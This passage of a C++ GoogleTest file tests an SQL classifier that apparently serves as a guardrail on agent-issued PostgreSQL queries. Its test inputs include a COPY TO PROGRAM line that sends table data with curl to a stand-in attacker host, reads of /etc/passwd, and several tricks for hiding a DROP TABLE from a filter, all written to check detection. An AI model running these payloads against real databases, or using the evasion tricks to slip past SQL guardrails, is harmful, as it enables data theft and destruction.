#include "masking/sql_classifier.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <random>
#include <set>
#include <string>
#include <thread>
#include <tuple>
#include <vector>

namespace agentgate::masking {
namespace {

// The functions and flags a realistic guardrail policy references.
const std::vector<std::string> dangerous_functions = {
    "pg_terminate_backend", "pg_cancel_backend", "pg_read_file", "pg_read_binary_file", "lo_export",
    "lo_import", "dblink_exec", "dblink", "pg_catalog.set_config", "pg_sleep"};

classifier_spec policy_spec() {
  classifier_spec spec;
  spec.statement_kinds = {"DROP TABLE", "DROP DATABASE", "TRUNCATE TABLE", "DELETE", "UPDATE", "COPY",
                          "SET", "RESET", "DO", "CALL", "GRANT", "GRANT ROLE", "ALTER ROLE", "PREPARE"};
  spec.functions = dangerous_functions;
  spec.without_where = true;
  spec.copy_program = true;
  spec.writes = true;
  spec.set_parameter = true;
  return spec;
}

std::unique_ptr<sql_scanner> make_scanner(const classifier_spec& spec) {
  auto classifier = sql_classifier::build(spec);
  EXPECT_TRUE(classifier.is_ok()) << (classifier.is_ok() ? "" : classifier.error().message());
  auto scanner = sql_scanner::create(classifier.value());
  EXPECT_TRUE(scanner.is_ok()) << (scanner.is_ok() ? "" : scanner.error().message());
  return std::move(scanner.value());
}

class sql_classifier_test : public ::testing::Test {
 protected:
  sql_classifier_test() : scanner_(make_scanner(policy_spec())) {}

  classification classify(std::string_view sql) { return scanner_->classify(sql); }

  // Classifies text the parser must see; fails the test if it took the fast path.
  classification parsed(std::string_view sql) {
    classification c = classify(sql);
    EXPECT_FALSE(c.fast_path) << sql;
    EXPECT_TRUE(c.parsed) << sql << ": " << c.parse_error;
    return c;
  }

  std::vector<std::string> kinds(std::string_view sql) {
    std::vector<std::string> out;
    for (const auto& s : parsed(sql).statements) out.push_back(s.kind);
    return out;
  }

  std::unique_ptr<sql_scanner> scanner_;
};

using strings = std::vector<std::string>;

// --- Statement kinds -------------------------------------------------------

TEST_F(sql_classifier_test, reports_postgres_command_tags) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"SELECT 1", "SELECT"},
      {"INSERT INTO t VALUES (1)", "INSERT"},
      {"UPDATE t SET a = 1 WHERE id = 2", "UPDATE"},
      {"DELETE FROM t WHERE id = 2", "DELETE"},
      {"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE"},
      {"COPY t FROM STDIN", "COPY"},
      {"COPY (SELECT 1) TO STDOUT", "COPY"},
      {"TRUNCATE t", "TRUNCATE TABLE"},
      {"TRUNCATE TABLE a, b.c CASCADE", "TRUNCATE TABLE"},
      {"DROP TABLE t", "DROP TABLE"},
      {"DROP TABLE IF EXISTS a, b", "DROP TABLE"},
      {"DROP DATABASE prod", "DROP DATABASE"},
      {"DROP VIEW v", "DROP VIEW"},
      {"DROP MATERIALIZED VIEW v", "DROP MATERIALIZED VIEW"},
      {"DROP INDEX i", "DROP INDEX"},
      {"DROP SCHEMA s CASCADE", "DROP SCHEMA"},
      {"DROP FUNCTION f(int)", "DROP FUNCTION"},
      {"DROP EXTENSION e", "DROP EXTENSION"},
      {"DROP TRIGGER tr ON t", "DROP TRIGGER"},
      {"DROP SERVER s", "DROP SERVER"},
      {"DROP TABLESPACE ts", "DROP TABLESPACE"},
      {"CREATE TABLE t (a int)", "CREATE TABLE"},
      {"CREATE TABLE t2 AS SELECT * FROM t", "CREATE TABLE AS"},
      {"CREATE MATERIALIZED VIEW mv AS SELECT 1", "CREATE MATERIALIZED VIEW"},
      {"CREATE VIEW v AS SELECT 1", "CREATE VIEW"},
      {"CREATE INDEX i ON t (a)", "CREATE INDEX"},
      {"CREATE SCHEMA s", "CREATE SCHEMA"},
      {"CREATE SEQUENCE s", "CREATE SEQUENCE"},
      {"CREATE DATABASE d", "CREATE DATABASE"},
      {"CREATE EXTENSION dblink", "CREATE EXTENSION"},
      {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE FUNCTION"},
      {"CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", "CREATE PROCEDURE"},
      {"CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "CREATE TRIGGER"},
      {"CREATE TYPE mood AS ENUM ('a')", "CREATE TYPE"},
      {"CREATE POLICY p ON t USING (true)", "CREATE POLICY"},
      {"ALTER TABLE t ADD COLUMN b int", "ALTER TABLE"},
      {"ALTER TABLE t RENAME TO u", "ALTER TABLE"},
      {"ALTER TABLE t RENAME COLUMN a TO b", "ALTER TABLE"},
      {"ALTER INDEX i RENAME TO j", "ALTER INDEX"},
      {"ALTER VIEW v OWNER TO bob", "ALTER VIEW"},
      {"ALTER SCHEMA s RENAME TO s2", "ALTER SCHEMA"},
      {"ALTER FUNCTION f() OWNER TO bob", "ALTER FUNCTION"},
      {"ALTER FUNCTION f() SECURITY DEFINER", "ALTER FUNCTION"},
      {"ALTER DATABASE d SET work_mem = '1MB'", "ALTER DATABASE"},
      {"ALTER SYSTEM SET work_mem = '1MB'", "ALTER SYSTEM"},
      {"CREATE ROLE r", "CREATE ROLE"},
      {"CREATE USER u PASSWORD 'x'", "CREATE ROLE"},
      {"ALTER ROLE r SUPERUSER", "ALTER ROLE"},
      {"ALTER USER u SET search_path = x", "ALTER ROLE"},
      {"DROP ROLE r", "DROP ROLE"},
      {"DROP USER u", "DROP ROLE"},
      {"GRANT SELECT ON t TO r", "GRANT"},
      {"REVOKE SELECT ON t FROM r", "REVOKE"},
      {"GRANT admin TO bob", "GRANT ROLE"},
      {"REVOKE admin FROM bob", "REVOKE ROLE"},
      {"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r", "ALTER DEFAULT PRIVILEGES"},
      {"SET work_mem = '1MB'", "SET"},
      {"SET LOCAL statement_timeout = 0", "SET"},
      {"RESET work_mem", "RESET"},
      {"RESET ALL", "RESET"},
      {"SHOW work_mem", "SHOW"},
      {"DO $$ BEGIN NULL; END $$", "DO"},
      {"CALL p(1)", "CALL"},
      {"PREPARE p AS SELECT 1", "PREPARE"},
      {"EXECUTE p", "EXECUTE"},
      {"DEALLOCATE p", "DEALLOCATE"},
      {"DEALLOCATE ALL", "DEALLOCATE ALL"},
      {"LISTEN ch", "LISTEN"},
      {"UNLISTEN *", "UNLISTEN"},
      {"NOTIFY ch, 'x'", "NOTIFY"},
      {"BEGIN", "BEGIN"},
      {"BEGIN ISOLATION LEVEL SERIALIZABLE", "BEGIN"},
      {"START TRANSACTION", "START TRANSACTION"},
      {"COMMIT", "COMMIT"},
      {"END", "COMMIT"},
      {"ROLLBACK", "ROLLBACK"},
      {"ABORT", "ROLLBACK"},
      {"SAVEPOINT s", "SAVEPOINT"},
      {"RELEASE SAVEPOINT s", "RELEASE"},
      {"ROLLBACK TO SAVEPOINT s", "ROLLBACK"},
      {"PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION"},
      {"COMMIT PREPARED 'x'", "COMMIT PREPARED"},
      {"ROLLBACK PREPARED 'x'", "ROLLBACK PREPARED"},
      {"EXPLAIN SELECT 1", "EXPLAIN"},
      {"VACUUM t", "VACUUM"},
      {"ANALYZE t", "ANALYZE"},
      {"CLUSTER t USING i", "CLUSTER"},
      {"REINDEX TABLE t", "REINDEX"},
      {"LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "LOCK TABLE"},
      {"CHECKPOINT", "CHECKPOINT"},
      {"LOAD 'auto_explain'", "LOAD"},
      {"DISCARD ALL", "DISCARD ALL"},
      {"DISCARD TEMP", "DISCARD TEMP"},
      {"DECLARE c CURSOR FOR SELECT 1", "DECLARE CURSOR"},
      {"FETCH 10 FROM c", "FETCH"},
      {"MOVE NEXT IN c", "MOVE"},
      {"CLOSE c", "CLOSE CURSOR"},
      {"CLOSE ALL", "CLOSE CURSOR ALL"},
      {"REFRESH MATERIALIZED VIEW mv", "REFRESH MATERIALIZED VIEW"},
      {"COMMENT ON TABLE t IS 'x'", "COMMENT"},
      {"SET CONSTRAINTS ALL DEFERRED", "SET CONSTRAINTS"},
      {"IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public", "IMPORT FOREIGN SCHEMA"},
      {"REASSIGN OWNED BY a TO b", "REASSIGN OWNED"},
      {"DROP OWNED BY a", "DROP OWNED"},
      {"VALUES (1), (2)", "SELECT"},
      {"TABLE t", "SELECT"},
  };
  for (const auto& [sql, tag] : cases) {
    const classification c = classify(sql);
    ASSERT_TRUE(c.parsed) << sql << ": " << c.parse_error;
    ASSERT_FALSE(c.statements.empty()) << sql;
    EXPECT_EQ(c.statements[0].kind, tag) << sql;
    EXPECT_FALSE(c.statements[0].nested) << sql;
    for (const auto& s : c.statements) EXPECT_TRUE(is_known_statement_kind(s.kind)) << sql << " -> " << s.kind;
  }
}

TEST_F(sql_classifier_test, writes_marks_data_and_schema_changes_only) {
  for (const char* sql : {"INSERT INTO t VALUES (1)", "UPDATE t SET a = 1 WHERE b", "DELETE FROM t WHERE b",
                          "COPY t FROM STDIN", "TRUNCATE t", "DROP TABLE t", "CREATE TABLE t (a int)",
                          "SELECT * INTO t2 FROM t", "DO $$BEGIN END$$", "CALL p()", "GRANT SELECT ON t TO r"}) {
    const classification c = classify(sql);
    ASSERT_TRUE(c.parsed) << sql;
    EXPECT_TRUE(c.statements[0].writes) << sql;
  }
  for (const char* sql : {"SELECT 1", "SELECT * FROM t FOR UPDATE", "COPY t TO STDOUT", "SHOW x", "SET x = 1",
                          "BEGIN", "EXPLAIN DELETE FROM t", "LISTEN c", "EXECUTE p", "PREPARE p AS SELECT 1"}) {
    const classification c = classify(sql);
    ASSERT_TRUE(c.parsed) << sql;
    EXPECT_FALSE(c.statements[0].writes) << sql;
  }
}

TEST_F(sql_classifier_test, without_where) {
  EXPECT_TRUE(parsed("DELETE FROM t").statements[0].without_where);
  EXPECT_TRUE(parsed("UPDATE t SET a = 1").statements[0].without_where);
  EXPECT_TRUE(parsed("UPDATE t SET a = 1 FROM u").statements[0].without_where);
  EXPECT_FALSE(parsed("DELETE FROM t WHERE id = 1").statements[0].without_where);
  EXPECT_FALSE(parsed("UPDATE t SET a = 1 WHERE true").statements[0].without_where);
  EXPECT_FALSE(parsed("DELETE FROM t WHERE CURRENT OF c").statements[0].without_where);
  EXPECT_FALSE(parsed("INSERT INTO t SELECT * FROM u").statements[0].without_where);
}

TEST_F(sql_classifier_test, copy_program) {
  const auto to = parsed("COPY t TO PROGRAM 'curl -d @- evil.example'");
  EXPECT_TRUE(to.statements[0].copy_program);
  EXPECT_FALSE(to.statements[0].writes);
  const auto from = parsed("copy t from program 'cat /etc/passwd'");
  EXPECT_TRUE(from.statements[0].copy_program);
  EXPECT_TRUE(from.statements[0].writes);
  EXPECT_FALSE(parsed("COPY t TO '/tmp/x'").statements[0].copy_program);
  EXPECT_FALSE(parsed("COPY t FROM STDIN").statements[0].copy_program);
}

TEST_F(sql_classifier_test, set_and_reset_name_their_parameter) {
  const std::vector<std::tuple<std::string, std::string, std::string>> cases = {
      {"SET ROLE admin", "SET", "role"},
      {"set local role postgres", "SET", "role"},
      {"SET SESSION AUTHORIZATION postgres", "SET", "session_authorization"},
      {"SET SESSION AUTHORIZATION DEFAULT", "SET", "session_authorization"},
      {"RESET ROLE", "RESET", "role"},
      {"RESET SESSION AUTHORIZATION", "RESET", "session_authorization"},
      {"RESET ALL", "RESET", "all"},
      {"SET search_path TO evil, public", "SET", "search_path"},
      {"SET SCHEMA 'evil'", "SET", "search_path"},
      {"SET standard_conforming_strings = off", "SET", "standard_conforming_strings"},
      {"SET \"Role\" = x", "SET", "role"},
      {"SET TIME ZONE 'UTC'", "SET", "timezone"},
      {"SET NAMES 'SJIS'", "SET", "client_encoding"},
      {"ALTER ROLE me SET role = admin", "ALTER ROLE", "role"},
      {"ALTER SYSTEM SET shared_preload_libraries = 'x'", "ALTER SYSTEM", "shared_preload_libraries"},
  };
  for (const auto& [sql, kind, parameter] : cases) {
    const auto c = parsed(sql);
    ASSERT_EQ(c.statements.size(), 1u) << sql;
    EXPECT_EQ(c.statements[0].kind, kind) << sql;
    EXPECT_EQ(c.statements[0].set_parameters, strings{parameter}) << sql;
  }
}

// --- Tables and functions --------------------------------------------------

TEST_F(sql_classifier_test, tables_are_reported_as_written) {
  const auto c = parsed(
      "SELECT * FROM public.Users u JOIN \"Orders\" o ON o.uid = u.id "
      "WHERE EXISTS (SELECT 1 FROM audit.log l WHERE l.id = u.id) "
      "AND u.id IN (SELECT id FROM db.s.deep) UNION SELECT * FROM other FOR UPDATE");
  EXPECT_EQ(c.statements[0].tables, (strings{"Orders", "audit.log", "db.s.deep", "other", "public.users"}));
  EXPECT_EQ(parsed("INSERT INTO a.b (x) SELECT x FROM c").statements[0].tables, (strings{"a.b", "c"}));
  EXPECT_EQ(parsed("UPDATE t SET a = u.a FROM u WHERE t.id = u.id").statements[0].tables, (strings{"t", "u"}));
  EXPECT_EQ(parsed("DROP TABLE a, s.b, \"C\"").statements[0].tables, (strings{"C", "a", "s.b"}));
  EXPECT_EQ(parsed("DROP TRIGGER tr ON s.t").statements[0].tables, (strings{"s.t"}));
  EXPECT_EQ(parsed("TRUNCATE a, b.c").statements[0].tables, (strings{"a", "b.c"}));
  EXPECT_EQ(parsed("ALTER TABLE t ADD COLUMN c int").statements[0].tables, (strings{"t"}));
  EXPECT_EQ(parsed("COPY s.t TO STDOUT").statements[0].tables, (strings{"s.t"}));
  EXPECT_EQ(parsed("LOCK TABLE t").statements[0].tables, (strings{"t"}));
  EXPECT_EQ(parsed("GRANT SELECT ON TABLE s.t TO r").statements[0].tables, (strings{"s.t"}));
  EXPECT_EQ(parsed("SELECT * INTO newt FROM t").statements[0].tables, (strings{"newt", "t"}));
  EXPECT_EQ(parsed("EXPLAIN SELECT * FROM t").statements[0].tables, (strings{"t"}));
}

TEST_F(sql_classifier_test, functions_are_found_anywhere) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"SELECT pg_read_file('/etc/passwd')", "pg_read_file"},
      {"SELECT * FROM dblink_exec('host=x', 'DROP TABLE t')", "dblink_exec"},
      {"SELECT * FROM t, LATERAL dblink('x', 'select 1') AS d(a int)", "dblink"},
      {"SELECT lo_export(123, '/tmp/x')", "lo_export"},
      {"SELECT (SELECT pg_terminate_backend(pid) FROM pg_stat_activity LIMIT 1)", "pg_terminate_backend"},
      {"SELECT CASE WHEN true THEN pg_terminate_backend(1) END", "pg_terminate_backend"},
      {"SELECT 1 FROM t WHERE a = pg_cancel_backend(1)", "pg_cancel_backend"},
      {"SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", "pg_sleep"},
      {"SELECT sum(x) OVER (ORDER BY pg_sleep(1)) FROM t", "pg_sleep"},
      {"WITH x AS (SELECT pg_read_file('f')) SELECT * FROM x", "pg_read_file"},
      {"SELECT * FROM t ORDER BY pg_sleep(1)", "pg_sleep"},
      {"SELECT * FROM t GROUP BY 1 HAVING pg_sleep(1) IS NULL", "pg_sleep"},
      {"SELECT * FROM ROWS FROM (pg_read_file('x'))", "pg_read_file"},
      {"SELECT pg_catalog.pg_read_file('x')", "pg_read_file"},
      {"SELECT \"pg_read_file\"('x')", "pg_read_file"},
      {"SELECT PG_READ_FILE('x')", "pg_read_file"},
      {"SELECT set_config('role', 'postgres', false)", "set_config"},
      {"CREATE TABLE t (a text DEFAULT pg_read_file('x'))", "pg_read_file"},
      {"ALTER TABLE t ALTER COLUMN a SET DEFAULT pg_read_file('x')", "pg_read_file"},
      {"CALL pg_terminate_backend(1)", "pg_terminate_backend"},
      {"CREATE TRIGGER tr AFTER INSERT ON t EXECUTE FUNCTION s.lo_export()", "lo_export"},
      {"INSERT INTO t VALUES (pg_read_file('x'))", "pg_read_file"},
      {"UPDATE t SET a = lo_import('/etc/passwd') WHERE id = 1", "lo_import"},
      {"EXPLAIN SELECT pg_sleep(1)", "pg_sleep"},
      {"SELECT * FROM t WHERE a IN (SELECT pg_read_binary_file('x'))", "pg_read_binary_file"},
  };
  for (const auto& [sql, fn] : cases) {
    const auto c = parsed(sql);
    ASSERT_FALSE(c.statements.empty()) << sql;
    EXPECT_TRUE(calls_function(c.statements[0], fn)) << sql;
  }
  const auto qualified = parsed("SELECT pg_catalog.pg_read_file('x')");
  EXPECT_EQ(qualified.statements[0].functions, (strings{"pg_catalog.pg_read_file"}));
  EXPECT_TRUE(calls_function(qualified.statements[0], "PG_CATALOG.pg_read_file"));
  EXPECT_TRUE(calls_function(qualified.statements[0], "other_schema.pg_read_file"));
  EXPECT_FALSE(calls_function(qualified.statements[0], "pg_read"));
  // The function being created is not called.
  EXPECT_FALSE(calls_function(parsed("CREATE FUNCTION pg_sleep_x() RETURNS int LANGUAGE sql AS 'SELECT 1'")
                                  .statements[0],
                              "pg_sleep_x"));
}

// --- Evasion attempts --------------------------------------------------------

TEST_F(sql_classifier_test, keyword_case_does_not_matter) {
  for (const char* sql : {"dElEtE fRoM t", "DELETE FROM t", "delete from t", "DeLeTe\tFrOm\nt"}) {
    const auto c = parsed(sql);
    EXPECT_EQ(c.statements[0].kind, "DELETE") << sql;
    EXPECT_TRUE(c.statements[0].without_where) << sql;
  }
  EXPECT_EQ(kinds("dRoP tAbLe T"), (strings{"DROP TABLE"}));
}

TEST_F(sql_classifier_test, comments_between_tokens) {
  EXPECT_EQ(kinds("DELETE/**/FROM t"), (strings{"DELETE"}));
  EXPECT_EQ(kinds("DROP -- x\n TABLE t"), (strings{"DROP TABLE"}));
  EXPECT_EQ(kinds("DROP -- x\r TABLE t"), (strings{"DROP TABLE"}));
  EXPECT_EQ(kinds("DROP/* outer /* nested */ still */TABLE t"), (strings{"DROP TABLE"}));
  EXPECT_EQ(kinds("/* leading */ -- and\n DELETE FROM t"), (strings{"DELETE"}));
  EXPECT_EQ(kinds("SELECT 1 /* ; */ ; DROP TABLE t"), (strings{"SELECT", "DROP TABLE"}));
  EXPECT_EQ(kinds("SELECT 1 -- ;\n; DROP TABLE t"), (strings{"SELECT", "DROP TABLE"}));
  EXPECT_EQ(kinds("/**/SELECT/**/pg_read_file/**/('x')"), (strings{"SELECT"}));
  EXPECT_TRUE(calls_function(parsed("SELECT pg_read_file/* x */('x')").statements[0], "pg_read_file"));
}

TEST_F(sql_classifier_test, several_statements_are_each_reported) {
  EXPECT_EQ(kinds("SELECT 1; DROP TABLE t"), (strings{"SELECT", "DROP TABLE"}));
  EXPECT_EQ(kinds("select 1;drop table t;"), (strings{"SELECT", "DROP TABLE"}));
  EXPECT_EQ(kinds("SELECT 1;;; ;SELECT 2"), (strings{"SELECT", "SELECT"}));
  EXPECT_EQ(kinds("BEGIN; UPDATE t SET a = 1; COMMIT"), (strings{"BEGIN", "UPDATE", "COMMIT"}));
  const auto c = parsed("SELECT 1; SELECT 2; TRUNCATE t");
  ASSERT_EQ(c.statements.size(), 3u);
  EXPECT_EQ(c.statements[2].top_level_index, 2u);
  // The strings and identifiers of the first statement do not hide the second.
  EXPECT_EQ(kinds("SELECT ';', \";\"; DROP TABLE t"), (strings{"SELECT", "DROP TABLE"}));
}

TEST_F(sql_classifier_test, prepared_statements_report_the_inner_statement) {
  const auto c = parsed("PREPARE p AS DELETE FROM t");
  ASSERT_EQ(c.statements.size(), 2u);
  EXPECT_EQ(c.statements[0].kind, "PREPARE");
  EXPECT_TRUE(c.statements[0].writes);
  EXPECT_EQ(c.statements[1].kind, "DELETE");
  EXPECT_TRUE(c.statements[1].nested);
  EXPECT_TRUE(c.statements[1].without_where);
  EXPECT_EQ(c.statements[1].tables, (strings{"t"}));

  const auto u = parsed("prepare q(int) as update t set a = $1");
  ASSERT_EQ(u.statements.size(), 2u);
  EXPECT_EQ(u.statements[1].kind, "UPDATE");
  EXPECT_TRUE(u.statements[1].without_where);

  const auto s = parsed("PREPARE r AS SELECT pg_read_file($1)");
  ASSERT_EQ(s.statements.size(), 2u);
  EXPECT_FALSE(s.statements[0].writes);
  EXPECT_TRUE(calls_function(s.statements[0], "pg_read_file"));
  EXPECT_TRUE(calls_function(s.statements[1], "pg_read_file"));
}

TEST_F(sql_classifier_test, do_blocks_are_do) {
  const auto c = parsed("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$");
  ASSERT_EQ(c.statements.size(), 1u);
  EXPECT_EQ(c.statements[0].kind, "DO");
  EXPECT_TRUE(c.statements[0].writes);
  EXPECT_EQ(kinds("do language plpgsql 'begin perform pg_sleep(1); end'"), (strings{"DO"}));
  EXPECT_EQ(kinds("SELECT 1; DO $x$ BEGIN NULL; END $x$"), (strings{"SELECT", "DO"}));
}

TEST_F(sql_classifier_test, unicode_escaped_identifiers_are_decoded) {
  for (const char* sql : {"SELECT U&\"pg\\005fterminate\\005fbackend\"(123)",
                          "SELECT u&\"\\0070g_terminate_backend\"(1)",
                          "SELECT U&\"pg!005fterminate!005fbackend\" UESCAPE '!' (1)",
                          "SELECT * FROM t WHERE x = U&\"pg_terminate_backen\\+000064\"(1)"}) {
    const auto c = parsed(sql);
    ASSERT_EQ(c.statements.size(), 1u) << sql;
    EXPECT_TRUE(calls_function(c.statements[0], "pg_terminate_backend")) << sql;
  }
  const auto t = parsed("SELECT * FROM U&\"d\\0061ta\"");
  EXPECT_EQ(t.statements[0].tables, (strings{"data"}));
}

TEST_F(sql_classifier_test, dollar_quotes_hide_nothing_and_reveal_nothing) {
  // Keywords inside a dollar-quoted string cost a parse but are not statements.
  EXPECT_EQ(kinds("SELECT $$; DROP TABLE t; $$"), (strings{"SELECT"}));
  EXPECT_EQ(kinds("SELECT $a$ DELETE FROM t $a$, $b$ pg_read_file $b$"), (strings{"SELECT"}));
  EXPECT_FALSE(calls_function(parsed("SELECT $$pg_read_file('x')$$").statements[0], "pg_read_file"));
  // A tag that looks like it closes early does not.
  EXPECT_EQ(kinds("SELECT $a$ $$; DROP TABLE t; $$ $a$"), (strings{"SELECT"}));
  // And one that closes reveals what follows.
  EXPECT_EQ(kinds("SELECT $a$x$a$; DROP TABLE t"), (strings{"SELECT", "DROP TABLE"}));
}

TEST_F(sql_classifier_test, escape_strings_and_backslashes) {
  // E'' treats \' as a quote inside the string: one statement.
  EXPECT_EQ(kinds("SELECT E'\\'; DROP TABLE t; --'"), (strings{"SELECT"}));
  // \\ is a backslash, so the string ends and DROP is a statement.
  EXPECT_EQ(kinds("SELECT E'\\\\'; DROP TABLE t; --'"), (strings{"SELECT", "DROP TABLE"}));
  // In a standard string a backslash is just a character (standard_conforming_strings=on).
  EXPECT_EQ(kinds("SELECT 'a\\'; DROP TABLE t; --'"), (strings{"SELECT", "DROP TABLE"}));
  EXPECT_EQ(kinds("SELECT 'it''s'; DELETE FROM t"), (strings{"SELECT", "DELETE"}));
  // An escape that spells a keyword is string content, not a keyword: no parse needed.
  const auto hex = classify("SELECT e'\\x44ELETE FROM t'");
  EXPECT_TRUE(hex.fast_path);
  EXPECT_EQ(hex.statements.at(0).kind, "SELECT");
}

TEST_F(sql_classifier_test, ctes_that_write) {
  const auto c = parsed("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x");
  ASSERT_EQ(c.statements.size(), 2u);
  EXPECT_EQ(c.statements[0].kind, "SELECT");
  EXPECT_TRUE(c.statements[0].writes);
  EXPECT_EQ(c.statements[1].kind, "DELETE");
  EXPECT_TRUE(c.statements[1].nested);
  EXPECT_TRUE(c.statements[1].without_where);
  EXPECT_EQ(c.statements[1].top_level_index, 0u);
  EXPECT_EQ(c.statements[0].tables, (strings{"t", "x"}));

  const auto deep = parsed(
      "WITH a AS (SELECT 1), b AS (WITH c AS (UPDATE u SET x = 1 WHERE y RETURNING x) SELECT * FROM c) "
      "SELECT * FROM a, b");
  ASSERT_EQ(deep.statements.size(), 2u);
  EXPECT_TRUE(deep.statements[0].writes);
  EXPECT_EQ(deep.statements[1].kind, "UPDATE");
  EXPECT_FALSE(deep.statements[1].without_where);

  const auto ins = parsed("with i as (insert into audit values (1) returning id) select id from i");
  EXPECT_EQ(ins.statements[1].kind, "INSERT");
  EXPECT_TRUE(ins.statements[0].writes);

  const auto copy = parsed("COPY (DELETE FROM t RETURNING *) TO STDOUT");
  ASSERT_EQ(copy.statements.size(), 2u);
  EXPECT_TRUE(copy.statements[0].writes);
  EXPECT_EQ(copy.statements[1].kind, "DELETE");
}

TEST_F(sql_classifier_test, select_into_writes) {
  const auto c = parsed("SELECT * INTO TEMP stolen FROM users");
  EXPECT_EQ(c.statements[0].kind, "SELECT");
  EXPECT_TRUE(c.statements[0].writes);
  EXPECT_TRUE(parsed("select 1 into t").statements[0].writes);
}

TEST_F(sql_classifier_test, explain_analyze_runs_its_statement) {
  const auto c = parsed("EXPLAIN ANALYZE DELETE FROM t");
  ASSERT_EQ(c.statements.size(), 2u);
  EXPECT_EQ(c.statements[0].kind, "EXPLAIN");
  EXPECT_TRUE(c.statements[0].writes);
  EXPECT_EQ(c.statements[1].kind, "DELETE");
  EXPECT_TRUE(c.statements[1].without_where);

  EXPECT_EQ(kinds("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1"), (strings{"EXPLAIN", "UPDATE"}));
  EXPECT_EQ(kinds("EXPLAIN (ANALYZE on) DELETE FROM t"), (strings{"EXPLAIN", "DELETE"}));
  EXPECT_EQ(kinds("EXPLAIN (ANALYZE tru) DELETE FROM t"), (strings{"EXPLAIN", "DELETE"}));
  EXPECT_EQ(kinds("explain analyse delete from t"), (strings{"EXPLAIN", "DELETE"}));
  EXPECT_EQ(kinds("EXPLAIN (\"analyze\") DELETE FROM t"), (strings{"EXPLAIN", "DELETE"}));
  EXPECT_EQ(kinds("EXPLAIN ANALYZE EXECUTE p"), (strings{"EXPLAIN", "EXECUTE"}));
  // Without ANALYZE nothing runs.
  const auto plain = parsed("EXPLAIN DELETE FROM t");
  ASSERT_EQ(plain.statements.size(), 1u);
  EXPECT_FALSE(plain.statements[0].writes);
  EXPECT_EQ(kinds("EXPLAIN (ANALYZE false) DELETE FROM t"), (strings{"EXPLAIN"}));
  EXPECT_EQ(kinds("EXPLAIN (ANALYZE off, VERBOSE) WITH d AS (DELETE FROM t) SELECT 1"), (strings{"EXPLAIN"}));
}

TEST_F(sql_classifier_test, every_nested_write_is_reported) {
  const auto c = parsed("PREPARE p AS WITH d AS (DELETE FROM a) INSERT INTO b SELECT 1");
  std::vector<std::string> k;
  for (const auto& s : c.statements) k.push_back(s.kind);
  EXPECT_EQ(k, (strings{"PREPARE", "INSERT", "DELETE"}));
  EXPECT_TRUE(c.statements[0].writes);
  EXPECT_EQ(c.statements[0].tables, (strings{"a", "b"}));
}

// --- Fast path ---------------------------------------------------------------

TEST_F(sql_classifier_test, plain_reads_take_the_fast_path) {
  for (const char* sql : {"SELECT 1", "SELECT abalance FROM pgbench_accounts WHERE aid = 48213;",
                          "select * from users where id = 5", "  \n(SELECT a FROM t) UNION (SELECT b FROM u)",
                          "/* app=web */ SELECT name FROM items ORDER BY id LIMIT 10", "-- hi\nSELECT 1;\n\t ",
                          "WITH x AS (SELECT 1) SELECT * FROM x", "VALUES (1)", "TABLE t",
                          "SELECT updated_at, deleted_count, settings, offset_x FROM t",
                          "SELECT now(), count(*), lower(name) FROM t"}) {
    const auto c = classify(sql);
    EXPECT_TRUE(c.fast_path) << sql;
    ASSERT_TRUE(c.parsed) << sql;
    ASSERT_EQ(c.statements.size(), 1u);
    EXPECT_EQ(c.statements[0].kind, "SELECT");
    EXPECT_FALSE(c.statements[0].writes);
  }
}

TEST_F(sql_classifier_test, anything_risky_leaves_the_fast_path) {
  for (const char* sql : {
           "SELECT 1; DROP TABLE t", "SELECT 1; -- trailing comment", "SELECT 1;;", "SELECT ';'",
           "SELECT pg_read_file('x')", "SELECT PG_READ_FILE('x')", "SELECT \"pg_read_file\"('x')",
           "SELECT pg_catalog.pg_sleep(1)", "SELECT U&\"x\"", "SELECT u&'x'", "SELECT * INTO t FROM u",
           "SELECT 1INTO t", "WITH d AS (DELETE FROM t) SELECT 1", "SELECT * FROM t FOR UPDATE",
           "WITH m AS (MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE) SELECT 1", "DELETE FROM t",
           "SHOW work_mem", "EXPLAIN SELECT 1", "select$$x$$", "SELECTx", "SELECT_1", "\vSELECT 1",
           "/* unterminated SELECT 1", "", "   ", "SELECT 'do it'",
           "SELECT 1 /* ; */"}) {
    EXPECT_FALSE(classify(sql).fast_path) << sql;
  }
  EXPECT_FALSE(classify(std::string_view("SELECT 1\0 DROP", 14)).fast_path);
}

TEST_F(sql_classifier_test, fast_path_facts_match_a_full_parse) {
  classification full;
  scanner_->classify_full("SELECT abalance FROM pgbench_accounts WHERE aid = 48213;", full);
  ASSERT_TRUE(full.parsed);
  ASSERT_EQ(full.statements.size(), 1u);
  EXPECT_EQ(full.statements[0].kind, "SELECT");
  EXPECT_FALSE(full.statements[0].writes);
  EXPECT_EQ(full.statements[0].tables, (strings{"pgbench_accounts"}));
}

TEST(sql_classifier_spec, table_rules_and_implicit_functions_turn_the_fast_path_off) {
  classifier_spec spec;
  spec.tables = true;
  auto with_tables = sql_classifier::build(spec);
  ASSERT_TRUE(with_tables.is_ok());
  EXPECT_FALSE(with_tables.value()->fast_path_enabled());

  classifier_spec tz;
  tz.functions = {"pg_catalog.timezone"};  // AT TIME ZONE calls it without naming it
  auto implicit = sql_classifier::build(tz);
  ASSERT_TRUE(implicit.is_ok());
  EXPECT_FALSE(implicit.value()->fast_path_enabled());
  auto scanner = make_scanner(tz);
  const auto c = scanner->classify("SELECT now() AT TIME ZONE 'UTC'");
  EXPECT_FALSE(c.fast_path);
  ASSERT_TRUE(c.parsed);
  EXPECT_TRUE(calls_function(c.statements[0], "timezone"));
  EXPECT_TRUE(calls_function(scanner->classify("SELECT TRIM(x) FROM t").statements[0], "btrim"));

